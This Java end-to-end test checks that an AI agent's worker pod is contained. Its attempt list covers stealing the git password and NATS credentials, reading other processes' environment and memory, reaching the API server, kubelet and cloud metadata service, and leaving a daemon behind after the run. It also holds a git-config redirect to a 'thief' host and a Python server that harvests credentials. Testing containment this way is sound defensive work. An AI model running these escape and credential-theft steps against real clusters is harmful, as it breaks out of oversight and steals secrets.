package dev.codeforge.e2e;

import static dev.codeforge.testing.Patience.PATIENCE;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.codeforge.api.AgentTaskStatus;
import dev.codeforge.api.Phase;
import io.fabric8.kubernetes.api.model.Service;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.TimeUnit;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** An agent in a pod that tries to get out of its run. The list is tried within the walls and without them. */
final class HostileE2E {
    /** The last line is the prompt's: a run that waits says where it is, another one makes the attempts. */
    private static final String PROGRAM =
            """
            read -r attempts
            case $attempts in
              wait) echo mine >mine; echo "waits in $PWD as $$ of $PPID"; sleep 300 ;;
              stay) setsid sleep 7357 & echo left ;;
              *) exec python3 -I -c "$HOSTILE" $attempts ;;
            esac
            """;

    private static final String GIT_SERVER = "http://git." + Platform.DEMO + ".svc/";
    /** Settings by which git would go elsewhere; the namespace of the thief, and the server that is meant. */
    private static final String REDIRECTS =
            """
            thief=http://thief.%1$s.svc/
            for scope in --global --local; do
              git config $scope "url.${thief}.insteadOf" %2$s
              git config $scope "url.${thief}.pushInsteadOf" %2$s
              git config $scope remote.origin.pushurl "${thief}demo/greeter.git"
              git config $scope lfs.url "${thief}lfs"
              git config $scope http.proxy "${thief}"
              git config $scope credential.helper "store --file=$HOME/stolen"
            done
            git remote set-url origin "${thief}demo/greeter.git"
            date >written-by-the-agent
            """;

    private static final String THIEF =
            """
            import http.server
            class Thief(http.server.BaseHTTPRequestHandler):
                def do_GET(self):
                    print(self.path, self.headers, flush=True)
                    self.send_response(401)
                    self.send_header("WWW-Authenticate", 'Basic realm="git"')
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                do_POST = do_GET
            print("listens", flush=True)
            http.server.ThreadingHTTPServer(("", 8080), Thief).serve_forever()
            """;

    private static final Pattern WAITS = Pattern.compile("waits in (\\S+) as (\\d+) of (\\d+)");
    /** Closed without walls too: the worker hides its memory, PID 1 keeps no environment, and no pod has these rights. */
    private static final Set<String> BY_NO_MEANS = Set.of(
            "the environment of PID 1",
            "the worker's environment",
            "the worker's memory",
            "the worker's memory by a call",
            "the supervisor's environment",
            "raw packets",
            "the metadata service",
            "the metadata service by the proxy");

    @AutoClose
    private final Platform platform = new Platform();

    @BeforeEach
    void secret() {
        platform.create(
                """
                apiVersion: v1
                kind: Secret
                metadata: {name: git}
                stringData: {username: somebody, password: of-git}
                """);
    }

    @Test
    void anAgentReachesNothingButItsTask() throws Exception {
        pool("walled", "{}");
        final Outcomes outcomes = attempt("walled").print("within the walls");
        assertThat(outcomes.done()).isEmpty();
        assertThat(outcomes.attempts()).hasSizeGreaterThan(BY_NO_MEANS.size());
    }

    @Test
    void withoutItsWallsItReachesAllOfThat() throws Exception {
        pool("open", "{agent: Off, egress: {policy: Open}}");
        final Outcomes outcomes = attempt("open").print("without walls");
        final Set<String> opened = new TreeSet<>(outcomes.attempts());
        opened.removeAll(BY_NO_MEANS);
        assertThat(outcomes.done()).containsAll(opened);
    }

    @Test
    void aDaemonDoesNotOutliveItsRun() throws Exception {
        pool("walled", "{}");
        platform.ask("leaves", "walled", "stay");
        assertThat(platform.awaitFinished("leaves").phase()).isEqualTo(Phase.Succeeded);
        final String pod = platform.status("leaves").podName();
        final Platform.Kubectl processes =
                platform.kubectl("exec", pod, "--container", "worker", "--", "sh", "-c", "cat /proc/[0-9]*/cmdline");
        assertThat(processes.output()).contains("tini\0").doesNotContain("sleep\0");
    }

    @Test
    void thePasswordOfGitIsForItsServerAlone() throws Exception {
        final Map<String, String> credential = platform.client
                .secrets()
                .inNamespace(Platform.DEMO)
                .withName("demo-git")
                .require()
                .getData();
        final String branch = "hostile-" + platform.namespace;
        platform.create(
                """
                apiVersion: v1
                kind: Secret
                metadata: {name: of-the-git-server}
                data: {username: %s, password: %s}
                ---
                apiVersion: codeforge.dev/v1alpha1
                kind: WorkerPool
                metadata: {name: redirects}
                spec:
                  backend: command
                  queue:
                    subject: tasks.%s.redirects
                  deletionPolicy: Delete
                  scaling: {minReplicas: 0, maxReplicas: 1}
                  taskDefaults: {runTimeoutSeconds: 60}
                  git: {credentials: [{url: "%s", secretRef: {name: of-the-git-server}}]}
                  template: {spec: {containers: [{name: worker, args: [run, --, sh, -c, %s]}]}}
                """
                        .formatted(
                                credential.get("username"),
                                credential.get("password"),
                                platform.namespace,
                                GIT_SERVER,
                                Platform.literal(REDIRECTS.formatted(platform.namespace, GIT_SERVER))));
        platform.awaitReady("redirects", "ScaledToZero");
        thief(platform.client
                .apps()
                .deployments()
                .inNamespace(platform.namespace)
                .withName("redirects-workers")
                .require()
                .getSpec()
                .getTemplate()
                .getSpec()
                .getContainers()
                .getFirst()
                .getImage());
        platform.task(
                "task",
                "redirects",
                "workspace: {git: {url: '%sdemo/greeter.git', push: {policy: OnSuccess, branch: %s}}}"
                        .formatted(GIT_SERVER, branch));
        final AgentTaskStatus status = platform.awaitFinished("task");
        assertThat(status.phase()).as("%s", status.error()).isEqualTo(Phase.Succeeded);
        final String thief = platform.client
                .pods()
                .inNamespace(platform.namespace)
                .withName("thief")
                .getLog();
        assertThat(thief).contains("listens").doesNotContain("Authorization");
        final Platform.Kubectl pushed = platform.kubectl(
                "--namespace=" + Platform.DEMO,
                "exec",
                "deployment/git",
                "--",
                "git",
                "-C",
                "/srv/git/demo/greeter.git",
                "rev-parse",
                "refs/heads/" + branch);
        assertThat(pushed.output().strip()).isEqualTo(status.result().git().commit());
    }

    /** A server that asks everybody for a password, and keeps what it is given. */
    private void thief(String image) throws Exception {
        platform.create(
                """
                apiVersion: v1
                kind: Service
                metadata: {name: thief}
                spec: {selector: {app: thief}, ports: [{port: 80, targetPort: 8080}]}
                ---
                apiVersion: v1
                kind: Pod
                metadata: {name: thief, labels: {app: thief}}
                spec:
                  securityContext: {runAsNonRoot: true, runAsUser: 10001, seccompProfile: {type: RuntimeDefault}}
                  containers:
                    - name: thief
                      image: "%s"
                      imagePullPolicy: IfNotPresent
                      command: [python3, -u, -c, %s]
                      readinessProbe: {tcpSocket: {port: 8080}, periodSeconds: 1}
                      securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}
                """
                        .formatted(image, Platform.literal(THIEF)));
        platform.client.pods().inNamespace(platform.namespace).withName("thief").waitUntilReady(60, TimeUnit.SECONDS);
    }

    private void pool(String name, String isolation) throws Exception {
        platform.create(
                """
                apiVersion: codeforge.dev/v1alpha1
                kind: WorkerPool
                metadata: {name: %s}
                spec:
                  backend: command
                  queue:
                    subject: tasks.%s.%s
                  tasksPerWorker: 2
                  isolation: %s
                  deletionPolicy: Delete
                  scaling: {minReplicas: 0, maxReplicas: 1, scaleDownStabilizationWindowSeconds: 60}
                  taskDefaults: {runTimeoutSeconds: 300}
                  git: {credentials: [{url: "http://git.invalid/", secretRef: {name: git}}]}
                  template:
                    spec:
                      containers:
                        - name: worker
                          args: [run, --, sh, -c, %s]
                          env: [{name: HOSTILE, value: %s}]
                """
                        .formatted(
                                name,
                                platform.namespace,
                                name,
                                isolation,
                                Platform.literal(PROGRAM),
                                Platform.literal(Files.readString(Path.of("worker/tests/harness/hostile.py")))));
    }

    /** What became of each attempt, beside a run that waits in the same worker. */
    private Outcomes attempt(String pool) throws Exception {
        platform.ask("waits", pool, "wait");
        platform.awaitPhase("waits", Phase.Running);
        final String pod = platform.status("waits").podName();
        final MatchResult neighbour = await("the neighbour's place")
                .atMost(PATIENCE)
                .until(
                        () -> WAITS.matcher(platform.client
                                        .pods()
                                        .inNamespace(platform.namespace)
                                        .withName(pod)
                                        .getLog())
                                .results()
                                .toList(),
                        found -> !found.isEmpty())
                .getFirst();
        platform.ask("attempts", pool, String.join(" ", attempts(neighbour)));
        final AgentTaskStatus status = platform.awaitFinished("attempts");
        assertThat(status.podName()).isEqualTo(pod);
        return Outcomes.of(status);
    }

    private List<String> attempts(MatchResult neighbour) {
        final String nats = address(Platform.SYSTEM, "codeforge-nats");
        final String apiServer = address("default", "kubernetes");
        final String node = platform.client
                .nodes()
                .list()
                .getItems()
                .getFirst()
                .getStatus()
                .getAddresses()
                .getFirst()
                .getAddress();
        final List<String> attempts = new ArrayList<>();
        attempts.addAll(List.of(
                "the worker's environment:environ",
                "the environment of PID 1:environ=1",
                "the supervisor's environment:supervisor_environ",
                "the worker's memory:memory",
                "the worker's memory by a call:memory_by_call",
                "a signal to the worker:end",
                "the limits of the worker:limit",
                "a ring of system calls:ring",
                "raw packets:packets",
                "the neighbour's environment:environ=" + neighbour.group(2),
                "a signal to the neighbour:end=" + neighbour.group(2),
                "the neighbour's files:names=" + neighbour.group(1),
                "a file in the neighbour's folder:write=" + neighbour.group(1) + "/planted",
                "the folders of all runs:names=/workspace",
                "the password of git:read=/run/codeforge/git/0/password",
                "the password of git by a link:by_link=/run/codeforge/git/0/password",
                "the pool's credential in NATS:read=/run/codeforge/nats/nats.creds",
                "NATS:tcp=" + nats + ":4222",
                "NATS by MPTCP:mptcp=" + nats + ":4222",
                "NATS by fast open:fast_open=" + nats + ":4222",
                "NATS by the proxy:by_proxy=codeforge-nats." + Platform.SYSTEM + ".svc:4222",
                "the monitor of NATS:tcp=" + nats + ":8222",
                "the API server:tcp=" + apiServer + ":443",
                "the API server by the proxy:by_proxy=kubernetes.default.svc:443",
                "the kubelet:tcp=" + node + ":10250",
                "the worker's own server:tcp=8080",
                "a datagram to another pod:udp=" + nats + ":53",
                "the metadata service:tcp=169.254.169.254:80",
                "the metadata service by the proxy:by_proxy=169.254.169.254:443"));
        return attempts.stream().map(attempt -> attempt.replace(' ', '_')).toList();
    }

    private String address(String namespace, String service) {
        final Service found = platform.client
                .services()
                .inNamespace(namespace)
                .withName(service)
                .require();
        return found.getSpec().getClusterIP();
    }
}
